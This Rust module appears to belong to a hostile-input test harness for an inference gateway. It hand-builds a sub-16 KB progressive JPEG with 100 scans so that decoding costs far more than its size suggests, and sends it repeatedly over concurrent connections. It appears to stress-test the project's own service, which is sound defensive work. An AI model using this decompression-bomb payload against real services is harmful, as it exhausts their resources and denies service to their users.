//! A JPEG of many scans: next to none of the sender's bytes, and each scan as much work as the whole picture.

use std::time::Duration;

use futures::StreamExt;
use futures::future::LocalBoxFuture;
use futures::stream::FuturesUnordered;
use tritondeploy_wire::v1::{self, ClientMessage, Infer, Source};

use super::bombs::framed;
use crate::failure::{Doing, Failure};
use crate::frame::Opcode;
use crate::hostile::attack::{Attack, Protocol};

/// Width and height: as many pixels as an image has that is no large one for the gateway.
const SIDE: usize = 2000;

/// One of coefficients that are all zero, and refinements of them.
const SCANS: usize = 100;

const CONNECTIONS: u64 = 2;
const TOGETHER: u64 = 16;
const PAUSE: Duration = Duration::from_millis(20);

/// The picture on several connections.
pub(super) fn run(attack: &Attack) -> LocalBoxFuture<'_, Result<(), Failure>> {
    Box::pin(async {
        let picture = picture(SIDE, SCANS);
        let frames: Vec<Vec<u8>> = (0..TOGETHER)
            .map(|id| {
                let infer = Infer { id, source: Source::Image {}, top_k: Some(5), ..Infer::default() };
                let message = v1::encode(&ClientMessage::Infer(infer), &[&picture]).doing("writing a message")?;
                Ok(framed(attack.seed, Opcode::Binary, &message))
            })
            .collect::<Result<_, Failure>>()?;
        attack.begin();
        let all: FuturesUnordered<_> = (0..CONNECTIONS).map(|_| attack.repeat(&frames, Protocol::V1, PAUSE)).collect();
        all.collect::<Vec<_>>().await.into_iter().collect()
    })
}

/// A gray progressive JPEG (ITU T.81, annex G): a scan of the DC coefficients, one of the AC ones, then refinements.
fn picture(side: usize, scans: usize) -> Vec<u8> {
    let blocks = side.div_ceil(8).pow(2);
    let mut file = vec![0xff, 0xd8];
    segment(&mut file, 0xdb, &[&[0][..], &[1; 64]].concat());
    let size = (side as u16).to_be_bytes();
    segment(&mut file, 0xc2, &[&[8][..], &size, &size, &[1, 1, 0x11, 0]].concat());
    // DC: one code of one bit, for a difference of nothing.
    segment(&mut file, 0xc4, &[&[0x00, 1][..], &[0; 15], &[0]].concat());
    // AC: runs of blocks that end at once; 14 bits of length behind the code of one bit, 0 to 13 behind those of five.
    let runs: Vec<u8> = [0xe0].into_iter().chain((0..14).map(|bits| bits << 4)).collect();
    segment(&mut file, 0xc4, &[&[0x10, 1, 0, 0, 0, 14][..], &[0; 11], &runs].concat());
    segment(&mut file, 0xda, &[1, 1, 0, 0, 0, 0]);
    file.extend(packed(vec![false; blocks]));
    let (mut bits, mut left) = (Vec::new(), blocks);
    while left > 0 {
        if left >= 1 << 14 {
            let run = left.min((1 << 15) - 1);
            bits.push(false);
            push(&mut bits, run - (1 << 14), 14);
            left -= run;
        } else {
            let length = left.ilog2() as usize;
            push(&mut bits, 16 + length, 5);
            push(&mut bits, left - (1 << length), length);
            left = 0;
        }
    }
    let ends = packed(bits);
    for scan in 1..scans {
        segment(&mut file, 0xda, &[1, 1, 0, 1, 63, if scan == 1 { 0x01 } else { 0x10 }]);
        file.extend_from_slice(&ends);
    }
    file.extend([0xff, 0xd9]);
    file
}

fn segment(file: &mut Vec<u8>, kind: u8, content: &[u8]) {
    file.extend([0xff, kind]);
    file.extend((content.len() as u16 + 2).to_be_bytes());
    file.extend_from_slice(content);
}

/// The lowest `count` bits, highest first.
fn push(bits: &mut Vec<bool>, value: usize, count: usize) {
    bits.extend((0..count).rev().map(|bit| value >> bit & 1 == 1));
}

/// As bytes, filled up with ones; no marker may stand among them.
fn packed(mut bits: Vec<bool>) -> Vec<u8> {
    bits.resize(bits.len().next_multiple_of(8), true);
    let bytes = bits.chunks(8).map(|eight| eight.iter().fold(0, |byte, bit| byte << 1 | u8::from(*bit)));
    bytes.flat_map(|byte: u8| if byte == 0xff { vec![0xff, 0] } else { vec![byte] }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_picture_is_one_and_small() {
        let picture = picture(SIDE, SCANS);
        assert!(picture.len() < 16 << 10, "{} bytes", picture.len());
        let header = turbojpeg::read_header(&picture).unwrap();
        assert_eq!((header.width, header.height, header.is_progressive), (SIDE, SIDE, true));
    }
}
